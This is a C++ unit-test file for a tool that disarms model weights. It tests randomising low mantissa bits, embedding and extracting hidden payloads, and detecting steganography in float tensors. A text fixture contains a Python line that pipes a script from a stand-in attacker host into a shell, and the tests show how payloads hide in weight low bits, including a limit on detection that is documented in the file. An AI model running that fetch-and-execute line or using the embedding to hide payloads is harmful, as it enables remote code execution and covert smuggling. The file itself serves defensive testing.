// Weight-level CDR: LSB randomiser, payload embedder and the --stego detector.
#include <gtest/gtest.h>

#include <bit>
#include <cmath>
#include <cstring>
#include <limits>
#include <random>
#include <string>
#include <vector>

#include "stego/lsb_randomizer.hpp"
#include "stego/payload_embedder.hpp"
#include "stego/stego_detector.hpp"

using namespace modelcdr;
using model::DType;

namespace {

std::vector<uint8_t> as_bytes(const std::vector<float>& v) {
  std::vector<uint8_t> b(v.size() * 4);
  std::memcpy(b.data(), v.data(), b.size());
  return b;
}

uint32_t bits_of(float f) { return std::bit_cast<uint32_t>(f); }

// Computed in double and rounded once, like trained weights. (libstdc++'s normal_distribution<float>
// works in float and leaves visibly non-uniform low bits, which is not what trained weights show.)
std::vector<float> gaussian(size_t n, uint64_t seed, double sigma = 0.05) {
  std::mt19937_64 g(seed);
  std::normal_distribution<double> nd(0.0, sigma);
  std::vector<float> v(n);
  for (auto& x : v) x = float(nd(g));
  return v;
}

std::vector<uint8_t> random_bytes(size_t n, uint64_t seed) {
  std::mt19937_64 g(seed);
  std::vector<uint8_t> v(n);
  for (auto& x : v) x = uint8_t(g());
  return v;
}

std::vector<uint8_t> text_bytes(size_t n) {
  static const char* kText =
      "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut labore et "
      "dolore magna aliqua. import os; os.system('curl http://evil.example/x | sh')\n";
  std::string s;
  while (s.size() < n) s += kText;
  return std::vector<uint8_t>(s.begin(), s.begin() + n);
}

void randomize_f32(std::vector<uint8_t>& b, int bits, stego::LsbCounters& c, uint64_t seed = 7) {
  stego::LaneRng rng(seed);
  stego::randomize_copy(b.data(), b.data(), b.size() / 4, 4, 23, bits, rng, c);
}

}  // namespace

TEST(LsbRandomizer, SpecialValuesFloat32) {
  const float inf = std::numeric_limits<float>::infinity();
  const float sub = std::numeric_limits<float>::denorm_min() * 12345.f;
  std::vector<float> v = {0.0f, -0.0f, inf, -inf, 1.5f, -3.25f, sub, -sub};
  std::vector<uint8_t> b = as_bytes(v);
  uint32_t nan_payload = 0x7f80beefu, neg_nan = 0xffc00001u;  // signalling NaN with payload, negative qNaN
  b.resize(b.size() + 8);
  std::memcpy(&b[32], &nan_payload, 4);
  std::memcpy(&b[36], &neg_nan, 4);
  stego::LsbCounters c;
  for (int rep = 0; rep < 4; ++rep) {
    std::vector<uint8_t> w = b;
    randomize_f32(w, 23, c, 100 + rep);
    std::vector<uint32_t> o(w.size() / 4);
    std::memcpy(o.data(), w.data(), w.size());
    EXPECT_EQ(o[0], 0x00000000u) << "+0 kept";
    EXPECT_EQ(o[1], 0x80000000u) << "-0 kept";
    EXPECT_EQ(o[2], 0x7f800000u) << "+Inf kept";
    EXPECT_EQ(o[3], 0xff800000u) << "-Inf kept";
    EXPECT_EQ(o[4] & 0xff800000u, bits_of(1.5f) & 0xff800000u) << "sign and exponent kept";
    EXPECT_EQ(o[5] & 0xff800000u, bits_of(-3.25f) & 0xff800000u);
    EXPECT_EQ(o[6] & 0xff800000u, 0u) << "subnormal stays subnormal (or zero)";
    EXPECT_EQ(o[7] & 0xff800000u, 0x80000000u);
    EXPECT_EQ(o[8], 0x7fc00000u) << "NaN canonicalised, sign kept";
    EXPECT_EQ(o[9], 0xffc00000u);
  }
  EXPECT_EQ(c.zeros, 8u);
  EXPECT_EQ(c.infs, 8u);
  EXPECT_EQ(c.nans, 8u);
  EXPECT_EQ(c.subnormals, 8u);
  EXPECT_EQ(c.randomized, 16u);
}

TEST(LsbRandomizer, OnlyLowBitsChangeAndValuesStayClose) {
  auto v = gaussian(100000, 1);
  auto b = as_bytes(v);
  for (int n : {1, 4, 8, 12, 14, 16, 23}) {
    auto w = b;
    stego::LsbCounters c;
    randomize_f32(w, n, c, n);
    const uint32_t keep = ~((1u << n) - 1);
    size_t changed = 0;
    for (size_t i = 0; i < v.size(); ++i) {
      uint32_t a, r;
      std::memcpy(&a, &b[i * 4], 4);
      std::memcpy(&r, &w[i * 4], 4);
      ASSERT_EQ(a & keep, r & keep) << "bits above N changed, N=" << n;
      changed += a != r;
      float fr = std::bit_cast<float>(r);
      ASSERT_LE(std::fabs(fr - v[i]), std::ldexp(std::fabs(v[i]), n - 23)) << "relative change below 2^(N-23)";
    }
    EXPECT_GT(changed, v.size() * (1.0 - 2.0 / (1u << n)) * 0.95) << "N=" << n;
  }
}

TEST(LsbRandomizer, OtherFloatTypes) {
  // float16: 1.0 = 0x3c00, Inf 0x7c00, NaN 0x7e01 -> 0x7e00; bfloat16: 1.0 = 0x3f80, NaN 0xffc1 -> 0xffc0.
  std::vector<uint16_t> h = {0x3c00, 0x7c00, 0x7e01, 0x0000, 0x8000, 0x0003, 0xbc00};
  stego::LsbCounters c;
  stego::LaneRng rng(3);
  std::vector<uint16_t> o(h.size());
  stego::randomize_copy(reinterpret_cast<uint8_t*>(h.data()), reinterpret_cast<uint8_t*>(o.data()), h.size(), 2, 10, 3, rng, c);
  EXPECT_EQ(o[0] & ~0x7u, 0x3c00u);
  EXPECT_EQ(o[1], 0x7c00u);
  EXPECT_EQ(o[2], 0x7e00u);
  EXPECT_EQ(o[3], 0x0000u);
  EXPECT_EQ(o[4], 0x8000u);
  EXPECT_EQ(o[5] & ~0x7u, 0x0000u);
  EXPECT_EQ(o[6] & ~0x7u, 0xbc00u);
  std::vector<uint16_t> bf = {0x3f80, 0xffc1, 0x7f80, 0xbf80};
  std::vector<uint16_t> ob(bf.size());
  stego::randomize_copy(reinterpret_cast<uint8_t*>(bf.data()), reinterpret_cast<uint8_t*>(ob.data()), bf.size(), 2, 7, 2, rng, c);
  EXPECT_EQ(ob[0] & ~0x3u, 0x3f80u);
  EXPECT_EQ(ob[1], 0xffc0u);
  EXPECT_EQ(ob[2], 0x7f80u);
  EXPECT_EQ(ob[3] & ~0x3u, 0xbf80u);
  std::vector<double> d = {1.0, -0.0, std::numeric_limits<double>::infinity(), 3.0};
  std::vector<double> od(d.size());
  stego::randomize_copy(reinterpret_cast<uint8_t*>(d.data()), reinterpret_cast<uint8_t*>(od.data()), d.size(), 8, 52, 40, rng, c);
  EXPECT_NEAR(od[0], 1.0, std::ldexp(1.0, -12));
  EXPECT_EQ(std::bit_cast<uint64_t>(od[1]), std::bit_cast<uint64_t>(-0.0));
  EXPECT_TRUE(std::isinf(od[2]));
  EXPECT_NEAR(od[3], 3.0, std::ldexp(3.0, -12));
}

TEST(LsbRandomizer, PayloadBitErrorRateIsHalfOnEveryRandomizedPosition) {
  const size_t n = 250000;  // >= 200k elements per bit position
  for (int k : {1, 4, 8, 12, 16, 23}) {
    auto b = as_bytes(gaussian(n, 10 + k));
    auto payload = random_bytes(n * k / 8, 99 + k);
    stego::embed_bits(b.data(), n, 4, k, payload, 0);
    std::vector<uint8_t> back(payload.size());
    stego::extract_bits(b.data(), n, 4, k, back, 0);
    ASSERT_EQ(back, payload) << "embed/extract round trip, k=" << k;
    int N = std::max(k, stego::LsbPolicy::kDefaultF32);
    stego::LsbCounters c;
    randomize_f32(b, N, c, 1000 + k);
    stego::extract_bits(b.data(), n, 4, k, back, 0);
    std::vector<uint64_t> err(k, 0);
    for (uint64_t s = 0; s < uint64_t(n) * k; ++s)
      err[s % k] += ((payload[s >> 3] ^ back[s >> 3]) >> (s & 7)) & 1u;
    for (int j = 0; j < k; ++j) {
      double ber = double(err[j]) / double(n);
      EXPECT_NEAR(ber, 0.5, 0.02) << "k=" << k << " bit " << j;
    }
  }
}

TEST(LsbRandomizer, ModelStoragesOnceNonFloatUntouched) {
  model::Model m;
  auto f = as_bytes(gaussian(4096, 5));
  std::vector<uint8_t> ints(4096 * 8, 0x5a);
  m.storages.resize(2);
  m.storages[0].dtype = DType::f32;
  m.storages[0].bytes = f;
  m.storages[0].nbytes = f.size();
  m.storages[1].dtype = DType::i64;
  m.storages[1].bytes = ints;
  m.storages[1].nbytes = ints.size();
  for (int i = 0; i < 3; ++i) {  // three views of storage 0, one of storage 1
    model::Tensor t;
    t.storage = i < 2 ? 0 : 1;
    t.dtype = i < 2 ? DType::f32 : DType::i64;
    t.shape = {2048};
    t.stride = {1};
    t.storage_offset = i == 1 ? 2048 : 0;
    m.tensors.push_back(t);
  }
  stego::LaneRng rng(11);
  stego::LsbPolicy p;
  auto rep = stego::randomize_model(m, p, &rng);
  EXPECT_EQ(rep.storages, 1u);
  EXPECT_EQ(rep.tensors, 2u);
  EXPECT_EQ(rep.skipped_storages, 1u);
  EXPECT_EQ(rep.bits_rewritten, 4096u * uint64_t(stego::LsbPolicy::kDefaultF32));
  EXPECT_FALSE(m.storages[0].owned.empty());
  EXPECT_NE(std::vector<uint8_t>(m.storages[0].bytes.begin(), m.storages[0].bytes.end()), f);
  EXPECT_TRUE(m.storages[1].owned.empty());
  EXPECT_EQ(m.storages[1].bytes.data(), ints.data());
  EXPECT_NE(rep.summary().find("2 tensors"), std::string::npos) << rep.summary();
}

TEST(LsbRandomizer, CsprngSeededStreamsDiffer) {
  stego::LaneRng a, b;
  std::vector<uint64_t> x(64), y(64);
  a.fill(x.data(), x.size());
  b.fill(y.data(), y.size());
  EXPECT_NE(x, y);
  uint64_t ones = 0;
  std::vector<uint64_t> z(1 << 14);
  a.fill(z.data(), z.size());
  for (auto w : z) ones += std::popcount(w);
  EXPECT_NEAR(double(ones) / (64.0 * z.size()), 0.5, 0.005);
}

TEST(LsbPolicy, Parse) {
  auto d = stego::parse_lsb_policy("default");
  ASSERT_TRUE(d.ok());
  EXPECT_EQ(d->bits_for(DType::f32), stego::LsbPolicy::kDefaultF32);
  auto n = stego::parse_lsb_policy("7");
  ASSERT_TRUE(n.ok());
  EXPECT_EQ(n->bits_for(DType::f32), 7);
  EXPECT_EQ(n->bits_for(DType::f16), 7);
  EXPECT_EQ(n->bits_for(DType::bf16), 7);
  EXPECT_EQ(n->bits_for(DType::i32), 0);
  // One N for every type beyond bfloat16's 7 mantissa bits is refused, never clamped (issue 9).
  EXPECT_FALSE(stego::parse_lsb_policy("8").ok());
  EXPECT_FALSE(stego::parse_lsb_policy("16").ok());
  auto l = stego::parse_lsb_policy("f32=10,bf16=0");
  ASSERT_TRUE(l.ok());
  EXPECT_EQ(l->bits_for(DType::f32), 10);
  EXPECT_EQ(l->bits_for(DType::bf16), 0);
  EXPECT_EQ(l->bits_for(DType::f16), stego::LsbPolicy::kDefaultF16);
  EXPECT_FALSE(stego::parse_lsb_policy("model.pt").ok());
  EXPECT_FALSE(stego::parse_lsb_policy("float16=11").ok());
  EXPECT_FALSE(stego::parse_lsb_policy("53").ok());
}

TEST(PayloadEmbedder, RoundTripEveryK) {
  for (int k = 1; k <= 23; ++k) {
    const size_t n = 1000;
    auto b = as_bytes(gaussian(n, k));
    auto orig = b;
    auto payload = random_bytes(n * k / 8, k);
    stego::embed_bits(b.data(), n, 4, k, payload, 0);
    std::vector<uint8_t> back(payload.size());
    stego::extract_bits(b.data(), n, 4, k, back, 0);
    EXPECT_EQ(back, payload) << k;
    for (size_t i = 0; i < n; ++i) {
      uint32_t a, r;
      std::memcpy(&a, &orig[i * 4], 4);
      std::memcpy(&r, &b[i * 4], 4);
      ASSERT_EQ(a >> k, r >> k) << "only the low k bits change";
    }
  }
}

TEST(StegoDetector, CleanWeightsScoreLow) {
  stego::StegoOptions o;
  for (uint64_t seed = 0; seed < 5; ++seed) {
    auto b = as_bytes(gaussian(300000, 200 + seed));
    auto s = stego::score_elements(b.data(), 300000, DType::f32, o);
    EXPECT_TRUE(s.tested);
    EXPECT_LT(s.score, o.threshold) << s.detail;
  }
  // Fresh torch-style init, N(0,1) times sigma in float arithmetic: its lowest 2-3 mantissa planes are
  // biased (0.6 / 0.6 / 0.47 ones), which must not read as a payload.
  {
    std::mt19937_64 g(9);
    std::normal_distribution<double> nd(0.0, 1.0);
    std::vector<float> v(300000);
    for (auto& x : v) x = float(nd(g)) * 0.0416667f;
    auto bb = as_bytes(v);
    auto si = stego::score_elements(bb.data(), v.size(), DType::f32, o);
    EXPECT_LT(si.score, o.threshold) << si.detail;
  }
  // Upcast bfloat16 weights (low 16 bits zero) are clean too.
  auto b = as_bytes(gaussian(100000, 3));
  for (size_t i = 0; i < b.size(); i += 4) b[i] = b[i + 1] = 0;
  auto s = stego::score_elements(b.data(), 100000, DType::f32, o);
  EXPECT_LT(s.score, o.threshold) << s.detail;
  EXPECT_EQ(s.constant_low_planes, 16);
}

TEST(StegoDetector, TextPayloadFlaggedEvenAtOnePercent) {
  stego::StegoOptions o;
  const size_t n = 200000;
  for (int k : {1, 4, 8, 16, 23}) {
    for (double fill : {0.01, 1.0}) {
      auto b = as_bytes(gaussian(n, 300 + k));
      auto payload = text_bytes(size_t(n * k / 8 * fill));
      stego::embed_bits(b.data(), n, 4, k, payload, 0);
      auto s = stego::score_elements(b.data(), n, DType::f32, o);
      EXPECT_GE(s.score, o.threshold) << "k=" << k << " fill=" << fill << " " << s.detail;
    }
  }
}

TEST(StegoDetector, RandomPayloadInUpcastWeightsFlagged) {
  stego::StegoOptions o;
  const size_t n = 100000;
  auto b = as_bytes(gaussian(n, 4));
  for (size_t i = 0; i < b.size(); i += 4) b[i] = b[i + 1] = 0;  // bfloat16 origin
  stego::embed_bits(b.data(), n, 4, 8, random_bytes(n, 5), 0);
  auto s = stego::score_elements(b.data(), n, DType::f32, o);
  EXPECT_GE(s.score, o.threshold) << s.detail;
  EXPECT_EQ(s.test, "stuck-band");
}

TEST(StegoDetector, RandomPayloadInNoiseBitsIsTheDocumentedLimit) {
  // Encrypted payloads in bits that are already noise are statistically invisible: this is why
  // disarm randomises instead of relying on detection.
  stego::StegoOptions o;
  const size_t n = 200000;
  auto b = as_bytes(gaussian(n, 6));
  stego::embed_bits(b.data(), n, 4, 4, random_bytes(n / 2, 7), 0);
  auto s = stego::score_elements(b.data(), n, DType::f32, o);
  EXPECT_LT(s.score, o.threshold) << s.detail;
}
